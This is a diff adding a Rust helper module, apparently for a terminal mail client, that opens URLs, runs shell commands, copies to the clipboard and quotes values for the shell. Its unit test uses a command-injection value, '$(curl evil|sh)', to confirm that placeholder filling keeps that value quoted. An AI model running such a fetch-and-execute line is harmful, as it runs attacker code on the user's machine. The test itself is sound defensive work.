@@ -0,0 +1,171 @@
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+/// Open a URL or file with the desktop's default handler
+pub fn open_url(url: &str) {
+    let mut cmd = if cfg!(windows) {
+        // Not `cmd /C start`: cmd would split a URL's query string at & ^ |
+        // and run the rest as commands. The URL stays one argument here
+        let mut c = Command::new("rundll32");
+        c.arg("url.dll,FileProtocolHandler");
+        c
+    } else if cfg!(target_os = "macos") {
+        Command::new("open")
+    } else {
+        Command::new("xdg-open")
+    };
+
+    let _ = cmd
+        .arg(url)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn();
+}
+
+/// Start `command` on a file in the background, through the shell. `%s` in
+/// the command is replaced by the quoted path; without one the path is appended
+pub fn open_with(command: &str, path: &str) -> std::io::Result<()> {
+    let quoted = shell_quote(path);
+    let command_line = if command.contains("%s") {
+        command.replace("%s", &quoted)
+    } else {
+        format!("{} {}", command, quoted)
+    };
+    shell_command(&command_line)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .map(|_| ())
+}
+
+/// Put text on the system clipboard, falling back to an OSC 52 escape
+/// (which also works over SSH) when no clipboard tool is available
+pub fn copy_to_clipboard(text: &str) {
+    use std::io::Write;
+
+    let tools: &[&[&str]] = if cfg!(windows) {
+        &[&["clip"]]
+    } else if cfg!(target_os = "macos") {
+        &[&["pbcopy"]]
+    } else {
+        &[
+            &["wl-copy"],
+            &["xclip", "-selection", "clipboard"],
+            &["xsel", "--clipboard", "--input"],
+        ]
+    };
+
+    for tool in tools {
+        let child = Command::new(tool[0])
+            .args(&tool[1..])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn();
+        if let Ok(mut child) = child {
+            if let Some(mut stdin) = child.stdin.take() {
+                let _ = stdin.write_all(text.as_bytes());
+            }
+            if child.wait().map(|s| s.success()).unwrap_or(false) {
+                return;
+            }
+        }
+    }
+
+    use base64::Engine;
+    let encoded = base64::engine::general_purpose::STANDARD.encode(text);
+    let mut stdout = std::io::stdout();
+    let _ = write!(stdout, "\x1b]52;c;{}\x07", encoded);
+    let _ = stdout.flush();
+}
+
+/// Build a command that runs `command_line` through the system shell
+pub fn shell_command(command_line: &str) -> Command {
+    let mut cmd = if cfg!(windows) {
+        let mut c = Command::new("cmd");
+        c.arg("/C");
+        c
+    } else {
+        let mut c = Command::new("sh");
+        c.arg("-c");
+        c
+    };
+    cmd.arg(command_line);
+    cmd
+}
+
+/// Quote a value so the system shell passes it through as a single argument
+pub fn shell_quote(value: &str) -> String {
+    if cfg!(windows) {
+        format!("\"{}\"", value.replace('"', "\"\""))
+    } else {
+        format!("'{}'", value.replace('\'', "'\\''"))
+    }
+}
+
+/// Fill `{name}` placeholders in a shell command line with quoted values.
+/// The template is scanned once, so placeholder text inside a value (which
+/// a message's sender controls) is never substituted in turn
+pub fn fill_placeholders(template: &str, values: &[(&str, &str)]) -> String {
+    let mut line = String::with_capacity(template.len());
+    let mut rest = template;
+    while !rest.is_empty() {
+        match values
+            .iter()
+            .find(|(placeholder, _)| rest.starts_with(placeholder))
+        {
+            Some((placeholder, value)) => {
+                line.push_str(&shell_quote(value));
+                rest = &rest[placeholder.len()..];
+            }
+            None => {
+                let c = rest.chars().next().unwrap_or_default();
+                line.push(c);
+                rest = &rest[c.len_utf8()..];
+            }
+        }
+    }
+    line
+}
+
+/// Build a command that opens `path` in the user's editor
+/// Uses $EDITOR, falling back to nvim (notepad on Windows)
+pub fn editor_command(path: &Path) -> Command {
+    let default = if cfg!(windows) { "notepad" } else { "nvim" };
+    let editor = std::env::var("EDITOR").unwrap_or_else(|_| default.to_string());
+
+    let mut cmd = Command::new(&editor);
+    // Soft-wrap long lines when the editor understands vim options
+    let program = Path::new(&editor)
+        .file_stem()
+        .and_then(|s| s.to_str())
+        .unwrap_or("");
+    if matches!(program, "vi" | "vim" | "nvim") {
+        cmd.arg("-c").arg("set wrap");
+    }
+    cmd.arg(path);
+    cmd
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    #[cfg(not(windows))]
+    fn test_fill_placeholders_once() {
+        let values = [
+            ("{message_id}", "<a{subject}@x>"),
+            ("{subject}", "$(curl evil|sh)"),
+        ];
+        assert_eq!(
+            fill_placeholders("tag {message_id} {subject}", &values),
+            "tag '<a{subject}@x>' '$(curl evil|sh)'"
+        );
+        assert_eq!(
+            fill_placeholders("é {subject}{", &[("{subject}", "it's")]),
+            "é 'it'\\''s'{"
+        );
+    }
+}